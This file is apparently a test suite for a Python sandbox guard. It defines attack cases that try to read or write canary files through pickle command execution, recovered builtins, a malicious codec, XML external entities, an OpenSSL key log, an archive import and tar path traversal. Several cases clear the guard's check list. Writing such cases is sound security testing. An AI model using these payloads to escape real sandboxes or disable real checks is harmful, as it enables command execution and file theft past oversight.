import type { Family } from './attack.js';
import { climbed } from './preludes.js';

/** Data that is code to whoever decodes it, and files that C code opens unseen. */
export const codecsAndPickles: Family = {
  name: 'codecs and pickles',
  attacks: [
    {
      name: 'loads a pickle that runs a command',
      kind: 'boundary',
      aims: ['kept-file'],
      code: climbed(`
import pickle
command = "echo changed > " + CANARY["kept"]
print(pickle.loads(b"cos\\nsystem\\n(V" + command.encode() + b"\\ntR."))
`),
    },
    {
      name: 'loads a pickle that reads a file with nothing but builtins',
      kind: 'boundary',
      aims: ['shared-file'],
      code: climbed(`
import pickle
program = "print(open(%r).read())" % CANARY["file"]
pickle.loads(b"cbuiltins\\nexec\\n(V" + program.encode() + b"\\ntR.")
`),
    },
    {
      name: 'copies an object that says how it is to be rebuilt',
      kind: 'boundary',
      aims: ['kept-file'],
      code: `
import copy
held = print.__self__
modules = held.__import__("sys").modules
class Rebuilt:
    def __reduce_ex__(self, protocol): return held.open, (CANARY["kept"], "w")
if "rlm_runtime.guard" in modules: modules["rlm_runtime.guard"]._CHECKS.clear()
with copy.copy(Rebuilt()) as file: file.write("changed")
`,
    },
    {
      name: 'loads marshalled code and gives it the real builtins',
      kind: 'boundary',
      aims: ['shared-file'],
      code: `
import types
load = print.__self__.__import__
def read(path, modules):
    if "rlm_runtime.guard" in modules: modules["rlm_runtime.guard"]._CHECKS.clear()
    return open(path).read()
marshal = load("marshal")
code = marshal.loads(marshal.dumps(read.__code__))
print(types.FunctionType(code, {"__builtins__": print.__self__})(CANARY["file"], load("sys").modules))
`,
    },
    {
      name: 'decodes with a codec of its own, which runs when the runtime looks for one',
      kind: 'boundary',
      aims: ['shared-file'],
      code: climbed(`
import codecs
def search(name):
    if name == "canary":
        def decode(data, errors="strict"): return open(bytes(data).decode()).read(), len(data)
        return codecs.CodecInfo(lambda *_: (b"", 0), decode, name="canary")
codecs.register(search)
print(CANARY["file"].encode().decode("canary"))
`),
    },
    {
      name: 'has XML include a file as an external entity',
      kind: 'boundary',
      aims: ['shared-file'],
      code: climbed(`
import io, xml.sax, xml.sax.handler, xml.sax.xmlreader
class Show(xml.sax.handler.ContentHandler):
    def characters(self, text): print(text, end="")
reader = xml.sax.make_parser()
reader.setFeature(xml.sax.handler.feature_external_ges, True)
reader.setContentHandler(Show())
source = xml.sax.xmlreader.InputSource()
source.setByteStream(io.BytesIO(
    b'<!DOCTYPE a [<!ENTITY b SYSTEM "file://%s">]><a>&b;</a>' % CANARY["file"].encode()))
reader.parse(source)
`),
    },
    {
      name: 'has OpenSSL open a log of keys, of which Python tells no audit hook',
      kind: 'boundary',
      aims: ['kept-file'],
      code: `
ssl = print.__self__.__import__("_ssl")
context = ssl._SSLContext(ssl.PROTOCOL_TLS_CLIENT)
context.keylog_filename = CANARY["kept"]
`,
    },
    {
      name: 'imports a module out of an archive that it wrote',
      kind: 'boundary',
      aims: ['shared-file'],
      code: climbed(`
import sys, zipfile
with zipfile.ZipFile("packed.zip", "w") as archive:
    archive.writestr("unpacked_canary.py", "print(open(%r).read())" % CANARY["file"])
sys.path.insert(0, "packed.zip")
sys.path_importer_cache.clear()
import unpacked_canary
`),
    },
    {
      name: 'unpacks an archive whose names lead out of the folder',
      kind: 'boundary',
      aims: ['kept-folder'],
      code: climbed(`
import io, os, tarfile
data = io.BytesIO()
with tarfile.open(fileobj=data, mode="w") as archive:
    member = tarfile.TarInfo(os.path.relpath(CANARY["folder"] + "/dropped"))
    member.size = 7
    archive.addfile(member, io.BytesIO(b"dropped"))
data.seek(0)
tarfile.open(fileobj=data).extractall(".")
`),
    },
  ],
};
